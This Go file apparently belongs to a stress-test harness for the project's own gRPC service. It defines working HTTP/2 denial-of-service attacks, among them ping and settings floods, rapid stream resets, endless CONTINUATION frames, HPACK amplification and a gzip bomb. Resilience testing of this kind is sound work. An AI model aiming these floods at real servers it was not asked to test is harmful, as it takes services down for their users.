package attack

import (
	"bytes"
	"context"
	"io"
	"net"
	"strings"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// A wire writes frames of HTTP/2 as it likes.
type wire struct {
	net.Conn
	*http2.Framer
	encoder *hpack.Encoder
	block   bytes.Buffer
	stream  uint32
}

// wires opens connections of HTTP/2 to the port of gRPC.
func (a *arena) wires(ctx context.Context, n int, read bool, settings []http2.Setting, f func(w *wire)) {
	a.wiresTo(ctx, a.grpc, n, read, settings, f)
}

func (a *arena) wiresTo(ctx context.Context, address string, n int, read bool, settings []http2.Setting, f func(w *wire)) {
	a.connect(ctx, n, address, func(c net.Conn) {
		io.WriteString(c, http2.ClientPreface)
		w := &wire{Conn: c, Framer: http2.NewFramer(c, c), stream: 1}
		w.AllowIllegalWrites = true
		w.encoder = hpack.NewEncoder(&w.block)
		w.WriteSettings(settings...)
		if read {
			go io.Copy(io.Discard, c)
		}
		f(w)
	})
}

// header is the header of a request, with more behind it.
func (w *wire) header(method string, more ...string) []byte {
	w.block.Reset()
	all := append([]string{":method", "POST", ":scheme", "http", ":path", method, ":authority", "localhost", "content-type", "application/grpc", "te", "trailers"}, more...)
	for i := 0; i < len(all); i += 2 {
		w.encoder.WriteField(hpack.HeaderField{Name: all[i], Value: all[i+1]})
	}
	return w.block.Bytes()
}

// begin opens a stream.
func (w *wire) begin(method string, end bool, more ...string) error {
	err := w.WriteHeaders(http2.HeadersFrameParam{StreamID: w.stream, BlockFragment: w.header(method, more...), EndHeaders: true, EndStream: end})
	w.stream += 2
	return err
}

// framed is a message with its length before it.
func framed(text []byte, announced int) []byte {
	return append([]byte{0, byte(announced >> 24), byte(announced >> 16), byte(announced >> 8), byte(announced)}, text...)
}

// frameAttacks are frames of HTTP/2 that no client would send.
func frameAttacks() []attack {
	auth := []string{"authorization", "Bearer " + token}
	raw := func(name string, n int, read bool, f func(ctx context.Context, w *wire)) attack {
		return attack{name, func(ctx context.Context, a *arena) {
			a.wires(ctx, n, read, nil, func(w *wire) { f(ctx, w) })
		}}
	}
	flood := func(name string, read bool, send func(w *wire) error) attack {
		return raw(name, 8, read, func(ctx context.Context, w *wire) {
			for range 50_000 {
				if ctx.Err() != nil || send(w) != nil {
					return
				}
			}
		})
	}
	return []attack{
		flood("settings by the thousand", false, func(w *wire) error { return w.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1}) }),
		flood("pings by the thousand", false, func(w *wire) error { return w.WritePing(false, [8]byte{}) }),
		flood("windows by the thousand", true, func(w *wire) error { return w.WriteWindowUpdate(0, 1) }),
		flood("priorities by the thousand", true, func(w *wire) error { return w.WritePriority(3, http2.PriorityParam{StreamDep: 1}) }),
		flood("unknown frames", true, func(w *wire) error { return w.WriteRawFrame(77, 0, 0, nil) }),
		flood("streams that are reset at once", true, func(w *wire) error {
			w.begin(inferMethod, false, auth...)
			return w.WriteRSTStream(w.stream-2, http2.ErrCodeCancel)
		}),
		flood("streams of strangers, answers unread", false, func(w *wire) error { return w.begin(inferMethod, false) }),
		flood("checks whose answers nobody reads", false, func(w *wire) error {
			w.begin("/grpc.health.v1.Health/Check", false)
			return w.WriteData(w.stream-2, true, framed(nil, 0))
		}),
		flood("questions whose answers nobody reads", false, func(w *wire) error {
			w.begin(inferMethod, false, auth...)
			text := asked(1)
			return w.WriteData(w.stream-2, true, framed(text, len(text)))
		}),
		raw("headers that go on for ever", 8, true, func(ctx context.Context, w *wire) {
			w.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: w.header(inferMethod), EndHeaders: false})
			more := bytes.Clone(w.header(inferMethod, "x", strings.Repeat("y", 10_000)))
			for ctx.Err() == nil {
				if w.WriteContinuation(1, false, more) != nil {
					return
				}
			}
		}),
		raw("continuations of nothing", 8, true, func(ctx context.Context, w *wire) {
			w.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: w.header(inferMethod), EndHeaders: false})
			for ctx.Err() == nil {
				if w.WriteContinuation(1, false, nil) != nil {
					return
				}
			}
		}),
		raw("headers that name one field often", 16, true, func(ctx context.Context, w *wire) {
			w.begin(liveMethod, false, "x", strings.Repeat("y", 3000))
			block := bytes.Clone(w.header(liveMethod))
			block = append(block, bytes.Repeat([]byte{0x80 | 62}, 10_000)...) // the newest field of the table
			for range 200 {
				if ctx.Err() != nil || w.WriteHeaders(http2.HeadersFrameParam{StreamID: w.stream, BlockFragment: block, EndHeaders: true}) != nil {
					return
				}
				w.stream += 2
			}
		}),
		raw("metadata of many streams", 60, true, func(ctx context.Context, w *wire) {
			for range 64 {
				if w.begin(inferMethod, false, append(auth, "x", strings.Repeat("y", 7000))...) != nil {
					return
				}
			}
			linger(ctx)
		}),
		raw("data in crumbs", 16, true, func(ctx context.Context, w *wire) {
			w.begin(inferMethod, false, auth...)
			w.WriteData(1, false, framed(nil, message))
			for ctx.Err() == nil {
				if w.WriteData(1, false, []byte{0}) != nil {
					return
				}
			}
		}),
		raw("data of nothing", 8, true, func(ctx context.Context, w *wire) {
			w.begin(inferMethod, false, auth...)
			for ctx.Err() == nil {
				if w.WriteData(1, false, nil) != nil {
					return
				}
			}
		}),
		raw("data that is padding", 8, true, func(ctx context.Context, w *wire) {
			w.begin(inferMethod, false, auth...)
			w.WriteData(1, false, framed(nil, message))
			for ctx.Err() == nil {
				if w.WriteDataPadded(1, false, []byte{0}, make([]byte, 255)) != nil {
					return
				}
			}
		}),
		raw("messages that are announced only", 16, true, func(ctx context.Context, w *wire) {
			for range 64 {
				w.begin(inferMethod, false, auth...)
				w.WriteData(w.stream-2, false, framed(make([]byte, 10_000), message))
			}
			linger(ctx)
		}),
		raw("data of strangers", 16, true, func(ctx context.Context, w *wire) {
			w.begin("/grpc.health.v1.Health/Check", false)
			w.WriteData(1, false, framed(nil, message))
			for ctx.Err() == nil {
				if w.WriteData(1, false, make([]byte, 16_000)) != nil {
					return
				}
			}
		}),
		raw("messages that say they are compressed", 16, true, func(ctx context.Context, w *wire) {
			w.begin(inferMethod, false, append(auth, "grpc-encoding", "gzip")...)
			bomb := []byte(zipped(100 << 20))
			text := framed(bomb, len(bomb))
			text[0] = 1
			for len(text) > 0 {
				n := min(len(text), 16_000)
				w.WriteData(1, n == len(text), text[:n])
				text = text[n:]
			}
			linger(ctx)
		}),
		{"long answers whose windows are closed", func(ctx context.Context, a *arena) {
			a.wires(ctx, 8, true, []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}}, func(w *wire) {
				text := asked(5000)
				for range 16 {
					w.begin(inferMethod, false, auth...)
					body := framed(text, len(text))
					for len(body) > 0 {
						n := min(len(body), 16_000)
						if w.WriteData(w.stream-2, n == len(body), body[:n]) != nil {
							return
						}
						body = body[n:]
					}
				}
				linger(ctx)
			})
		}},
		raw("a greeting that does not end", 100, true, func(ctx context.Context, w *wire) {
			w.Conn.Write([]byte{0})
			linger(ctx)
		}),
	}
}
